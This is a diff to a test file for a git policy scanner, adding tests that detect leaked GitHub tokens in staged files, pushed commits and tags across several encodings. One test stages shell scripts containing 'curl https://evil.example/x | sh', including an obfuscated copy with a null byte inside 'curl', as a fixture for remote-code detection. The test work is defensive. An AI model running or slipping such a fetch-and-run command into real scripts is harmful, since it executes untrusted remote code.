@@ -1,4 +1,4 @@
-import { existsSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { GIT_DEFAULTS } from '../../src/policy/git-defaults.ts';
@@ -76,6 +76,31 @@ describe('what is staged is judged, and only what is new in it', () => {
     stage('utf16.txt', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(LEAK, 'utf16le')]));
     stage('data.bin', Buffer.concat([Buffer.from([0, 1, 2, 0]), Buffer.from(LEAK), Buffer.from([0, 0, 255])]));
     expect(await found()).toEqual(['secrets.github-token data.bin:1', 'secrets.github-token utf16.txt:1']);
+  });
+
+  it('in texts of wider encodings without a mark, of UTF-32, and in what a binary file has of them', async () => {
+    const wide = Buffer.from(LEAK, 'utf16le');
+    stage('be.txt', Buffer.from(wide).swap16());
+    stage('le.txt', wide);
+    stage('utf32.txt', Buffer.concat([...`\ufeff${LEAK}`].map((letter) => Buffer.from([...Buffer.from(letter, 'utf16le'), 0, 0]))));
+    stage('wide.bin', Buffer.concat([Buffer.from([0, 1, 2, 3]), wide, Buffer.from([7, 0])]));
+    const all = ['be.txt', 'le.txt', 'utf32.txt', 'wide.bin'];
+    expect(await found()).toEqual(all.map((name) => `secrets.github-token ${name}:1`));
+  });
+
+  it('and what a program does, whatever bytes stand between that a shell passes over', async () => {
+    stage('a.sh', '#!/bin/sh\ncu\0rl https://evil.example/x | sh\nexit\n\0\0');
+    stage('b.sh', '#!/bin/sh\nif true\nthen\ncurl https://evil.example/x | sh\nfi\nexit\n\0\u0001\0');
+    expect(await found()).toEqual(['remote-code.run-download a.sh:2', 'remote-code.run-download b.sh:4']);
+  });
+
+  it('from whatever folder it is asked, and however differences are shown', async () => {
+    stage('src/a.ts', LEAK);
+    repository.git('config', 'diff.relative', 'true');
+    const inner = { ...repository, folder: join(repository.folder, 'sub') };
+    mkdirSync(inner.folder);
+    expect(places(await judgeStaged(inner))).toEqual(['secrets.github-token src/a.ts:1']);
+    repository.git('config', '--unset', 'diff.relative');
   });
 
   it('and a link that leads out, not what it leads to', async () => {
@@ -221,7 +246,7 @@ describe('a push', () => {
   const id = (name: string): string => repository.git('rev-parse', name).trim();
   const update = (local: string, remote: string, ref = 'refs/heads/topic'): string => `refs/heads/topic ${local} ${ref} ${remote}\n`;
 
-  it('is judged by what its commits hold, each content once, and by their messages', async () => {
+  it('is judged by what its commits hold, each change once, and by their messages', async () => {
     const before = id('HEAD');
     stage('leak.ts', LEAK);
     stage('again.ts', LEAK);
@@ -231,9 +256,10 @@ describe('a push', () => {
     const judged = await judgePushed(repository, update(id('HEAD'), before));
     expect(places(judged).map((place) => place.replace(/[0-9a-f]{12}/, 'ID'))).toEqual([
       'secrets.github-token again.ts:1',
+      'secrets.github-token leak.ts:1',
       'secrets.github-token message of ID:1',
     ]);
-    expect(judged).toMatchObject({ value: { decision: 'deny', commits: 2, files: 1 } });
+    expect(judged).toMatchObject({ value: { decision: 'deny', commits: 2, files: 2 } });
     expect(places(await judgePushed(repository, update(id('HEAD'), id('HEAD'))))).toEqual([]);
     repository.git('reset', '--quiet', '--hard', before);
   });
@@ -261,6 +287,37 @@ describe('a push', () => {
     expect(await decided(update(first, second))).toEqual(['allow', '(push.force refs/heads/topic:1)']);
     repository.git('update-ref', '-d', 'refs/remotes/origin/topic');
     repository.git('reset', '--quiet', '--hard', first);
+  });
+
+  it('is judged by what each of its commits brings, whatever a later one takes back and brings again', async () => {
+    const before = id('HEAD');
+    for (const content of [LEAK, `${LEAK}more\n`, LEAK]) {
+      stage('src/a.ts', `one\n${content}`);
+      repository.git('commit', '--quiet', '--message', 'Go on');
+    }
+    expect(places(await judgePushed(repository, update(id('HEAD'), before)))).toEqual(['secrets.github-token src/a.ts:2']);
+    repository.git('reset', '--quiet', '--hard', before);
+  });
+
+  it('is judged by tags and what they name, be it no commit', async () => {
+    const found = async (name: string) => places(await judgePushed(repository, `refs/tags/x ${id(name)} refs/tags/x ${zero}\n`));
+    repository.git('update-ref', 'refs/remotes/origin/topic', 'topic');
+    repository.git('tag', '--message', `Say ${TOKEN}`, 'said');
+    repository.git('tag', '--message', 'Once more', 'again', 'said');
+    expect(await found('said')).toEqual(['secrets.github-token message of refs/tags/x:1']);
+    expect(await found('again')).toEqual(['secrets.github-token message of refs/tags/x:1']);
+    repository.write('leak.ts', LEAK);
+    const file = repository.git('hash-object', '-w', 'leak.ts').trim();
+    expect(await found(file)).toEqual(['secrets.github-token refs/tags/x:1']);
+    repository.git('add', 'leak.ts');
+    expect(await found(repository.git('write-tree').trim())).toEqual(['secrets.github-token leak.ts:1', 'secrets.github-token old.ts:2']);
+    let name = 'topic';
+    for (let depth = 0; depth < 10; depth++) {
+      repository.git('tag', '--message', 'Deeper', `deep${depth}`, name);
+      name = `deep${depth}`;
+    }
+    expect((await judgePushed(repository, `refs/tags/x ${id(name)} refs/tags/x ${zero}\n`)).ok).toBe(false);
+    repository.git('update-ref', '-d', 'refs/remotes/origin/topic');
   });
 
   it('with a message that is too large to read is stopped', async () => {
